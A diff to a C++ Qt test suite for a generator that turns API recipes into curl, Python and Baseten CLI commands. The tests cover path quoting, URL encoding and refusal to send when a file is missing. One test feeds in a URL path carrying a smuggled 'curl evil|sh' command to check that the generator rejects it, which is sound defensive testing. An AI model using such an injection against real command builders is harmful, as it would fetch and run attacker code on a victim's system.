@@ -110,8 +110,10 @@ private Q_SLOTS:
         const QString code = api::requestCode(m_recipe, CodeLanguage::Curl).value();
         QVERIFY2(code.contains(QStringLiteral(
                      "'ffmpeg' '-v' 'error' '-ss' '1.5' '-t' '8' '-i' 'hum.flac' '-ac' '1' '-ar' '32000' "
-                     "'-c:a' 'pcm_s16le' '-f' 'wav' '-' | base64")),
+                     "'-c:a' 'pcm_s16le' '-bitexact' '-f' 'wav' \"$dir/0.wav\"")),
                  qPrintable(code));
+        m_recipe.files.front().conversion->level = core::Level::Normalised;
+        QVERIFY(!api::requestCode(m_recipe, CodeLanguage::Curl)); // it would be another sound
     }
 
     void asksThePlatformsToolForWhatItReaches_data()
@@ -122,15 +124,15 @@ private Q_SLOTS:
             QTest::newRow(path) << QStringLiteral("https://model-abc%1").arg(QLatin1String(path))
                                 << QString::fromLatin1(call);
         };
-        row(".api.baseten.co/development/predict", "truss predict --model abc -f request.json");
+        row(".api.baseten.co/development/predict", "truss predict --model abc -f \"$dir/request.json\"");
         row(".api.baseten.co/production/predict",
-            "baseten model predict --model-id abc --environment production --file request.json");
+            "baseten model predict --model-id abc --environment production --file \"$dir/request.json\"");
         row(".api.baseten.co/environments/staging/predict",
-            "baseten model predict --model-id abc --environment staging --file request.json");
+            "baseten model predict --model-id abc --environment staging --file \"$dir/request.json\"");
         row(".api.baseten.co/deployment/xyz/predict",
-            "baseten model predict --model-id abc --deployment-id xyz --file request.json");
+            "baseten model predict --model-id abc --deployment-id xyz --file \"$dir/request.json\"");
         row("-eu-prod.api.baseten.co/predict",
-            "baseten model predict --model-id abc --regional eu-prod --file request.json");
+            "baseten model predict --model-id abc --regional eu-prod --file \"$dir/request.json\"");
     }
 
     void asksThePlatformsToolForWhatItReaches()
@@ -140,18 +142,41 @@ private Q_SLOTS:
         m_recipe.endpoint.url = QUrl(url);
         const auto code = api::requestCode(m_recipe, CodeLanguage::PlatformTool);
         QVERIFY(code);
-        QVERIFY2(code->trimmed().endsWith(call), qPrintable(*code));
+        QVERIFY2(code->contains(QLatin1Char('\n') + call + QLatin1Char('\n')), qPrintable(*code));
         // What is before the tool makes the file.
-        const QString made = code->left(code->indexOf(QStringLiteral(" && "))) + QLatin1Char('\n');
-        (void)run(CodeLanguage::Curl, made);
-        QFile file(m_folder.filePath(QStringLiteral("request.json")));
-        QVERIFY(file.open(QIODevice::ReadOnly));
-        QCOMPARE(file.readAll(), core::toJsonBytes(m_recipe.fields));
+        const QString made = QString(*code).replace(call, QStringLiteral("cat \"$dir/request.json\""));
+        QCOMPARE(run(CodeLanguage::Curl, made), core::toJsonBytes(m_recipe.fields));
+    }
+
+    void sendsNothingWhereAFileIsMissing()
+    {
+        m_recipe.files.push_back({QStringLiteral("melody"), m_folder.filePath(QStringLiteral("none.wav")), {}, {}, {}});
+        for (const CodeLanguage language : {CodeLanguage::Curl, CodeLanguage::Python}) {
+            m_exitCode = 0;
+            (void)run(language, api::requestCode(m_recipe, language).value());
+            QVERIFY(m_exitCode != 0);
+        }
+        QCOMPARE(m_server->connections(), 0);
+    }
+
+    void keepsEveryLetterOfTheAddress()
+    {
+        m_server->route("/predict?sig=a%2Bb%20c", support::scripts::fixed(200, "{}"));
+        m_recipe.endpoint.url = m_server->url("/predict?sig=a%2Bb%20c");
+        for (const CodeLanguage language : {CodeLanguage::Curl, CodeLanguage::Python}) {
+            QCOMPARE(run(language, api::requestCode(m_recipe, language).value()), QByteArray("{}"));
+        }
     }
 
     void saysWhereItReachesNothing()
     {
         QVERIFY(!api::requestCode(m_recipe, CodeLanguage::PlatformTool));
+        for (const char* path : {"environments/x;curl%20evil|sh/predict", "environments/production/sync/v1/x",
+                                 "production/async_predict"}) {
+            core::Recipe recipe = m_recipe;
+            recipe.endpoint.url = QUrl(QStringLiteral("https://model-a.api.baseten.co/") + QLatin1String(path));
+            QVERIFY2(!api::requestCode(recipe, CodeLanguage::PlatformTool), path);
+        }
         m_recipe.files.push_back({QStringLiteral("/none/here"), QStringLiteral("a.wav"), {}, {}, {}});
         QVERIFY(!api::requestCode(m_recipe, CodeLanguage::Curl));
     }
